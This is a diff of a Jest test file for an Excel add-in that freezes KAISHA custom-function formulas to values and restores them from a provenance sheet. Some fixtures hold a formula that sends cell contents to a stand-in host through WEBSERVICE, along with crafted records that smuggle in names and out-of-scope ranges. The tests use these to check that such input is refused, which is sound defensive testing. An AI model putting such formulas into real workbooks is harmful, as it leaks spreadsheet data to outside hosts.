@@ -2,7 +2,7 @@
 
 jest.mock("office-addin-manifest", () => ({ OfficeApp: { Excel: "excel", Outlook: "outlook" } }));
 
-import { installFakeExcel, uninstallFakeExcel } from "./fake-excel";
+import { block, closeWorkbook, openWorkbook } from "./standin-workbook";
 import {
   errorIn,
   freezeFormulas,
@@ -28,26 +28,27 @@ function installOffice(version: string): void {
 
 beforeEach(() => installOffice("1.16"));
 afterEach(() => {
-  uninstallFakeExcel();
+  closeWorkbook();
   delete (globalThis as { Office?: unknown }).Office;
 });
 
 const NOW = new Date("2026-11-21T03:00:00Z"); // 12:00 JST
 
-/** The digest freeze records for a range of `rows` x `cols` empty cells (the fake's blank sheet). */
+/** The digest freeze records for a range of `rows` x `cols` empty cells (a blank sheet's). */
 function blankDigest(rows: number, cols: number): string {
   return valuesDigest(Array.from({ length: rows }, () => Array.from({ length: cols }, () => "")));
 }
 
 test("freezeFormulas(selection): writes values over a spilled formula and records it on KaishaProvenance", async () => {
-  const fake = installFakeExcel({
+  const fake = await openWorkbook({
     sheets: [
       {
         name: "Model",
-        spills: {
+        cells: {
+          A2: { value: "x" },
           B2: {
-            address: "Model!B2:C3",
-            values: [
+            formula: '=KAISHA.VALUATION("7203","fiscal_year,per")',
+            spill: [
               ["fiscal_year", "per"],
               ["2025/03", 12.5],
             ],
@@ -55,24 +56,20 @@ test("freezeFormulas(selection): writes values over a spilled formula and record
         },
       },
     ],
-    selection: {
-      address: "Model!A2:B2",
-      values: [["x", "fiscal_year"]],
-      formulas: [["x", '=KAISHA.VALUATION("7203","fiscal_year,per")']],
-    },
+    selection: "Model!A2:B2",
   });
   const result = await freezeFormulas("selection", "KAISHA / api.irbank.net", NOW);
   expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [] });
   // The whole spill range gets its own values, which replaces the formula.
-  expect(fake.range("Model", "Model!B2:C3").values).toEqual([
+  expect(fake.values("Model", "B2:C3")).toEqual([
     ["fiscal_year", "per"],
     ["2025/03", 12.5],
   ]);
-  expect(fake.sheetsAdded).toEqual(["KaishaProvenance"]);
-  expect(fake.range("KaishaProvenance", "A1:H1").values).toEqual([[...PROVENANCE_HEADER]]);
-  const record = fake.range("KaishaProvenance", "A2:H2");
-  expect(record.numberFormat[0][1]).toBe("@"); // the formula is kept as text
-  expect(record.values[0]).toEqual([
+  expect(fake.formulas("Model", "B2")).toEqual([["fiscal_year"]]);
+  expect(fake.sheetNames()).toEqual(["Model", "KaishaProvenance"]);
+  expect(fake.values("KaishaProvenance", "A1:H1")).toEqual([[...PROVENANCE_HEADER]]);
+  expect(fake.formats("KaishaProvenance", "A2:H2")[0]?.[1]).toBe("@"); // the formula is kept as text
+  expect(fake.values("KaishaProvenance", "A2:H2")[0]).toEqual([
     "Model!B2",
     '=KAISHA.VALUATION("7203","fiscal_year,per")',
     "B2:C3",
@@ -88,75 +85,72 @@ test("freezeFormulas(selection): writes values over a spilled formula and record
 });
 
 test("freezeFormulas: a scope without KAISHA formulas changes nothing", async () => {
-  const fake = installFakeExcel({
-    sheets: [{ name: "S" }],
-    selection: { address: "S!A1", values: [[3]], formulas: [["=1+2"]] },
+  const fake = await openWorkbook({
+    sheets: [{ name: "S", cells: { A1: { formula: "=1+2", value: 3 } } }],
+    selection: "S!A1",
   });
   expect(await freezeFormulas("selection", "KAISHA", NOW)).toEqual({
     frozen: 0,
     cells: [],
     skipped: [],
   });
-  expect(fake.sheetsAdded).toEqual([]);
+  expect(fake.sheetNames()).toEqual(["S"]);
 });
 
 test("restoreFormulas(sheet): clears the frozen values, re-enters the formula, marks the record restored", async () => {
-  const fake = installFakeExcel({
+  const fake = await openWorkbook({
     active: "Model",
     sheets: [
       { name: "Model" },
       {
         name: "KaishaProvenance",
-        used: {
-          address: "KaishaProvenance!A1:H3",
-          values: [
-            [...PROVENANCE_HEADER],
-            [
-              "Model!B2",
-              '=KAISHA.VALUATION("7203")',
-              "B2:C3",
-              46347.5,
-              "KAISHA",
-              "frozen",
-              "",
-              blankDigest(2, 2),
-            ],
-            [
-              "Other!A1",
-              '=KAISHA.PRICE("7203")',
-              "A1",
-              46347.5,
-              "KAISHA",
-              "frozen",
-              "",
-              blankDigest(1, 1),
-            ],
+        cells: block("A1", [
+          [...PROVENANCE_HEADER],
+          [
+            "Model!B2",
+            '=KAISHA.VALUATION("7203")',
+            "B2:C3",
+            46347.5,
+            "KAISHA",
+            "frozen",
+            "",
+            blankDigest(2, 2),
           ],
-        },
+          [
+            "Other!A1",
+            '=KAISHA.PRICE("7203")',
+            "A1",
+            46347.5,
+            "KAISHA",
+            "frozen",
+            "",
+            blankDigest(1, 1),
+          ],
+        ]),
       },
     ],
   });
   const result = await restoreFormulas("sheet", NOW);
   expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [], refused: [] });
   expect(fake.log).toContain("clear Model!B2:C3 Contents");
-  expect(fake.range("Model", "B2").formulas).toEqual([['=KAISHA.VALUATION("7203")']]);
-  expect(fake.range("KaishaProvenance", "F2:G2").values).toEqual([
+  expect(fake.formulas("Model", "B2")).toEqual([['=KAISHA.VALUATION("7203")']]);
+  expect(fake.values("KaishaProvenance", "F2:G2")).toEqual([
     ["restored", expect.closeTo(46347.5, 5)],
   ]);
   // The other sheet's record is untouched.
-  expect(fake.range("KaishaProvenance", "F3:G3")).toBeUndefined();
+  expect(fake.values("KaishaProvenance", "F3:G3")).toEqual([["frozen", ""]]);
 });
 
 test("freezeFormulas: cells inside a spill range are the anchor's output, recorded once", async () => {
   const formula = '=KAISHA.VALUATION("7203","fiscal_year,per")';
-  installFakeExcel({
+  await openWorkbook({
     sheets: [
       {
         name: "Model",
-        spills: {
+        cells: {
           B2: {
-            address: "Model!B2:C3",
-            values: [
+            formula,
+            spill: [
               ["fiscal_year", "per"],
               ["2025/03", 12.5],
             ],
@@ -164,53 +158,28 @@ test("freezeFormulas: cells inside a spill range are the anchor's output, record
         },
       },
     ],
-    selection: {
-      address: "Model!B2:C3",
-      values: [
-        ["fiscal_year", "per"],
-        ["2025/03", 12.5],
-      ],
-      // Some hosts report the anchor's formula on spilled cells too.
-      formulas: [
-        [formula, formula],
-        [formula, formula],
-      ],
-    },
+    selection: "Model!B2:C3",
   });
   const result = await freezeFormulas("selection", "KAISHA", NOW);
   expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [] });
 });
 
 test("freezeFormulas: formulas in error, still calculating or with a blocked spill stay formulas and are listed", async () => {
-  const fake = installFakeExcel({
+  const fake = await openWorkbook({
     sheets: [
       {
         name: "Model",
-        spills: {
-          A1: { address: "Model!A1:A2", values: [["sales"], [100]] },
-          B1: { address: "Model!B1:B2", values: [["per"], ["#N/A"]] },
-        },
-        // Single-cell results are read from the cell itself (no spill range).
         cells: {
-          C1: { address: "Model!C1", values: [["#BUSY!"]] },
-          D1: { address: "Model!D1", values: [["#SPILL!"]] },
-          E1: { address: "Model!E1", values: [["#GETTING_DATA"]] },
+          A1: { formula: '=KAISHA.FINANCIALS(7203,"sales")', spill: [["sales"], [100]] },
+          B1: { formula: '=KAISHA.VALUATION(7203,"per")', spill: [["per"], ["#N/A"]] },
+          // Single-cell results are read from the cell itself (no spill range).
+          C1: { formula: '=KAISHA.FINANCIAL(7203,"sales")', value: "#BUSY!", error: "Busy" },
+          D1: { formula: "=KAISHA.PRICES(7203)", value: "#SPILL!", error: "Spill" },
+          E1: { formula: "=KAISHA.PRICE(7203)", value: "#GETTING_DATA", error: "GettingData" },
         },
       },
     ],
-    selection: {
-      address: "Model!A1:E1",
-      values: [["sales", "per", "#BUSY!", "#SPILL!", "#GETTING_DATA"]],
-      formulas: [
-        [
-          '=KAISHA.FINANCIALS(7203,"sales")',
-          '=KAISHA.VALUATION(7203,"per")',
-          '=KAISHA.FINANCIAL(7203,"sales")',
-          "=KAISHA.PRICES(7203)",
-          "=KAISHA.PRICE(7203)",
-        ],
-      ],
-    },
+    selection: "Model!A1:E1",
   });
   const result = await freezeFormulas("selection", "KAISHA", NOW);
   expect(result.frozen).toBe(1);
@@ -222,15 +191,15 @@ test("freezeFormulas: formulas in error, still calculating or with a blocked spi
     { address: "Model!E1", code: "#GETTING_DATA", reason: "calculating" },
   ]);
   // Only the good one is recorded on KaishaProvenance (one row: A2:H2).
-  expect(fake.range("KaishaProvenance", "A2:H2").values[0][0]).toBe("Model!A1");
-  expect(fake.range("KaishaProvenance", "A2:H5")).toBeUndefined();
+  expect(fake.values("KaishaProvenance", "A2:H2")[0]?.[0]).toBe("Model!A1");
+  expect(fake.values("KaishaProvenance", "A3:A5")).toEqual([[""], [""], [""]]);
 });
 
 test("freezeFormulas: a host without ExcelApi 1.12 (spill ranges) is told so and nothing changes", async () => {
   installOffice("1.11");
-  const fake = installFakeExcel({
-    sheets: [{ name: "S" }],
-    selection: { address: "S!A1", values: [[3]], formulas: [["=KAISHA.PRICE(7203)"]] },
+  const fake = await openWorkbook({
+    sheets: [{ name: "S", cells: { A1: { formula: "=KAISHA.PRICE(7203)", value: 3 } } }],
+    selection: "S!A1",
   });
   await expect(freezeFormulas("selection", "KAISHA", NOW)).rejects.toMatchObject({
     name: "ExcelApiMissingError",
@@ -283,41 +252,41 @@ describe("freeze and restore never turn workbook text into formulas", () => {
   ];
 
   test("freezeFormulas: a function's text results go back as Text, numbers keep their format", async () => {
-    const fake = installFakeExcel({
+    const fake = await openWorkbook({
       sheets: [
         {
           name: "Model",
-          spills: {
+          cells: {
+            A2: { value: "x" },
             B2: {
-              address: "Model!B2:C7",
-              values: hostile.map((text, i) => [text, i + 0.5]),
+              formula: '=KAISHA.OFFICERS("7203")',
+              spill: hostile.map((text, i) => [text, i + 0.5]),
             },
           },
         },
       ],
-      selection: {
-        address: "Model!A2:B2",
-        values: [["x", hostile[0]]],
-        formulas: [["x", '=KAISHA.OFFICERS("7203")']],
-      },
+      selection: "Model!A2:B2",
     });
     const result = await freezeFormulas("selection", "KAISHA", NOW);
     expect(result.frozen).toBe(1);
-    const spill = fake.range("Model", "Model!B2:C7");
     // Written as values (no formulas in the batch), every string in a Text cell.
-    expect(spill.values).toEqual(hostile.map((text, i) => [text, i + 0.5]));
-    for (const row of spill.numberFormat as string[][]) expect(row[0]).toBe("@");
-    for (const row of spill.numberFormat as string[][]) expect(row[1]).not.toBe("@");
+    expect(fake.values("Model", "B2:C7")).toEqual(hostile.map((text, i) => [text, i + 0.5]));
+    expect(fake.formulas("Model", "B2:C7")).toEqual(hostile.map((text, i) => [text, i + 0.5]));
+    for (const row of fake.formats("Model", "B2:C7")) expect(row[0]).toBe("@");
+    for (const row of fake.formats("Model", "B2:C7")) expect(row[1]).not.toBe("@");
   });
 
   test("freezeFormulas: a KAISHA formula that also calls another function stays live and is listed", async () => {
-    installFakeExcel({
-      sheets: [{ name: "Model", cells: { B2: { address: "Model!B2", values: [[1]] } } }],
-      selection: {
-        address: "Model!B2",
-        values: [[1]],
-        formulas: [['=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example")']],
-      },
+    await openWorkbook({
+      sheets: [
+        {
+          name: "Model",
+          cells: {
+            B2: { formula: '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example")', value: 1 },
+          },
+        },
+      ],
+      selection: "Model!B2",
     });
     const result = await freezeFormulas("selection", "KAISHA", NOW);
     expect(result).toEqual({
@@ -331,61 +300,49 @@ describe("freeze and restore never turn workbook text into formulas", () => {
   });
 
   test("restoreFormulas: refuses smuggled functions, names, other sheets' and oversized ranges, and says which rows", async () => {
-    const fake = installFakeExcel({
+    const fake = await openWorkbook({
       active: "Model",
       sheets: [
         { name: "Model" },
         {
           name: "KaishaProvenance",
-          used: {
-            address: "KaishaProvenance!A1:H9",
-            values: [
-              [...PROVENANCE_HEADER],
-              [
-                "Model!B2",
-                '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example/"&A1)',
-                "B2",
-                1,
-                "K",
-                "frozen",
-                "",
-              ],
-              ["Model!B3", "=KAISHA.PRICE(Secret)", "B3", 1, "K", "frozen", "", blankDigest(1, 1)],
-              ["Model!B4", '=KAISHA.PRICE("7203")', "Other!A1:Z99", 1, "K", "frozen", "", "x"],
-              ["Model!B5", '=KAISHA.PRICE("7203")', "A1:XFD1048576", 1, "K", "frozen", "", "x"],
-              ["Model!B6", "=SUM(A1:A3)", "B6", 1, "K", "frozen", "", blankDigest(1, 1)],
-              [
-                "Model!B7:C9",
-                '=KAISHA.PRICE("7203")',
-                "B7",
-                1,
-                "K",
-                "frozen",
-                "",
-                blankDigest(1, 1),
-              ],
-              [
-                "Model!B8",
-                "=KAISHA.PRICE([Book2.xlsx]Sheet1!A1)",
-                "B8",
-                1,
-                "K",
-                "frozen",
-                "",
-                blankDigest(1, 1),
-              ],
-              [
-                "Model!B9",
-                '=KAISHA.PRICE("7203")',
-                "B9:B10",
-                1,
-                "K",
-                "frozen",
-                "",
-                blankDigest(2, 1),
-              ],
+          cells: block("A1", [
+            [...PROVENANCE_HEADER],
+            [
+              "Model!B2",
+              '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example/"&A1)',
+              "B2",
+              1,
+              "K",
+              "frozen",
+              "",
             ],
-          },
+            ["Model!B3", "=KAISHA.PRICE(Secret)", "B3", 1, "K", "frozen", "", blankDigest(1, 1)],
+            ["Model!B4", '=KAISHA.PRICE("7203")', "Other!A1:Z99", 1, "K", "frozen", "", "x"],
+            ["Model!B5", '=KAISHA.PRICE("7203")', "A1:XFD1048576", 1, "K", "frozen", "", "x"],
+            ["Model!B6", "=SUM(A1:A3)", "B6", 1, "K", "frozen", "", blankDigest(1, 1)],
+            ["Model!B7:C9", '=KAISHA.PRICE("7203")', "B7", 1, "K", "frozen", "", blankDigest(1, 1)],
+            [
+              "Model!B8",
+              "=KAISHA.PRICE([Book2.xlsx]Sheet1!A1)",
+              "B8",
+              1,
+              "K",
+              "frozen",
+              "",
+              blankDigest(1, 1),
+            ],
+            [
+              "Model!B9",
+              '=KAISHA.PRICE("7203")',
+              "B9:B10",
+              1,
+              "K",
+              "frozen",
+              "",
+              blankDigest(2, 1),
+            ],
+          ]),
         },
       ],
     });
@@ -403,7 +360,7 @@ describe("freeze and restore never turn workbook text into formulas", () => {
     // Nothing of a refused record was cleared or written.
     expect(fake.log.filter((l) => l.startsWith("clear"))).toEqual(["clear Model!B9:B10 Contents"]);
     for (const cell of ["B2", "B3", "B4", "B5", "B6", "B8"]) {
-      expect(fake.range("Model", cell)?.formulas ?? [[""]]).toEqual([[""]]);
+      expect(fake.formulas("Model", cell)).toEqual([[""]]);
     }
     const en = restoreSummary(result, translator("en"));
     expect(en.intent).toBe("warning");
@@ -414,37 +371,19 @@ describe("freeze and restore never turn workbook text into formulas", () => {
   });
 
   test("restoreFormulas: a values range that holds formulas is someone's work, not frozen values", async () => {
-    const fake = installFakeExcel({
+    const fake = await openWorkbook({
       active: "Model",
       sheets: [
         {
           name: "Model",
-          cells: {
-            "B2:B4": {
-              address: "Model!B2:B4",
-              values: [[1], [2], [3]],
-              formulas: [[1], ["=A1*2"], [3]],
-            },
-          },
+          cells: block("B2", [[1], [2], [3]], [[1], ["=A1*2"], [3]]),
         },
         {
           name: "KaishaProvenance",
-          used: {
-            address: "KaishaProvenance!A1:H2",
-            values: [
-              [...PROVENANCE_HEADER],
-              [
-                "Model!B2",
-                '=KAISHA.PRICE("7203")',
-                "B2:B4",
-                1,
-                "K",
-                "frozen",
-                "",
-                blankDigest(3, 1),
-              ],
-            ],
-          },
+          cells: block("A1", [
+            [...PROVENANCE_HEADER],
+            ["Model!B2", '=KAISHA.PRICE("7203")', "B2:B4", 1, "K", "frozen", "", blankDigest(3, 1)],
+          ]),
         },
       ],
     });
@@ -457,82 +396,78 @@ describe("freeze and restore never turn workbook text into formulas", () => {
   });
 
   test("restoreFormulas: a formula frozen from a Text cell comes back in General, so it calculates", async () => {
-    const fake = installFakeExcel({
+    const fake = await openWorkbook({
       active: "Model",
       sheets: [
         {
           name: "Model",
-          cells: { B2: { address: "Model!B2", values: [["-"]], numberFormat: [["@"]] } },
+          cells: { B2: { value: "-", format: "@" } },
         },
         {
           name: "KaishaProvenance",
-          used: {
-            address: "KaishaProvenance!A1:H2",
-            values: [
-              [...PROVENANCE_HEADER],
-              [
-                "Model!B2",
-                '=KAISHA.COMPANY("7203","name")',
-                "B2",
-                1,
-                "K",
-                "frozen",
-                "",
-                valuesDigest([["-"]]),
-              ],
+          cells: block("A1", [
+            [...PROVENANCE_HEADER],
+            [
+              "Model!B2",
+              '=KAISHA.COMPANY("7203","name")',
+              "B2",
+              1,
+              "K",
+              "frozen",
+              "",
+              valuesDigest([["-"]]),
             ],
-          },
+          ]),
         },
       ],
     });
     const result = await restoreFormulas("sheet", NOW);
     expect(result.frozen).toBe(1);
-    expect(fake.range("Model", "B2").numberFormat).toEqual([["General"]]);
-    expect(fake.range("Model", "B2").formulas).toEqual([['=KAISHA.COMPANY("7203","name")']]);
+    expect(fake.formats("Model", "B2")).toEqual([["General"]]);
+    expect(fake.formulas("Model", "B2")).toEqual([['=KAISHA.COMPANY("7203","name")']]);
   });
 });
 
 test("freezeFormulas: text that merely reads like a KAISHA formula (an API name kept as text) is not frozen", async () => {
-  const fake = installFakeExcel({
-    sheets: [{ name: "Model" }],
-    selection: {
-      address: "Model!A2:B2",
-      values: [["=KAISHA.USAGE()", "x"]],
-      formulas: [["=KAISHA.USAGE()", "x"]],
-    },
+  const fake = await openWorkbook({
+    sheets: [
+      {
+        name: "Model",
+        cells: { A2: { value: "=KAISHA.USAGE()", format: "@" }, B2: { value: "x" } },
+      },
+    ],
+    selection: "Model!A2:B2",
   });
+  expect(fake.formulas("Model", "A2:B2")).toEqual([["=KAISHA.USAGE()", "x"]]);
   const result = await freezeFormulas("selection", "KAISHA", NOW);
   expect(result).toEqual({ frozen: 0, cells: [], skipped: [] });
-  expect(fake.sheetsAdded).toEqual([]);
+  expect(fake.sheetNames()).toEqual(["Model"]);
 });
 
 test("restoreFormulas: a range that no longer holds exactly what freeze wrote (an analyst's edit, a crafted record) is refused and nothing is cleared", async () => {
-  const fake = installFakeExcel({
+  const fake = await openWorkbook({
     active: "Model",
     sheets: [
       {
         name: "Model",
-        cells: { B2: { address: "Model!B2:B3", values: [[12.5], ["my note"]] } },
+        cells: block("B2", [[12.5], ["my note"]]),
       },
       {
         name: "KaishaProvenance",
-        used: {
-          address: "KaishaProvenance!A1:H2",
-          values: [
-            [...PROVENANCE_HEADER],
-            // Frozen as [[12.5], [13]]: B3 has been typed over since.
-            [
-              "Model!B2",
-              '=KAISHA.PRICE("7203")',
-              "B2:B3",
-              1,
-              "K",
-              "frozen",
-              "",
-              valuesDigest([[12.5], [13]]),
-            ],
+        cells: block("A1", [
+          [...PROVENANCE_HEADER],
+          // Frozen as [[12.5], [13]]: B3 has been typed over since.
+          [
+            "Model!B2",
+            '=KAISHA.PRICE("7203")',
+            "B2:B3",
+            1,
+            "K",
+            "frozen",
+            "",
+            valuesDigest([[12.5], [13]]),
           ],
-        },
+        ]),
       },
     ],
   });
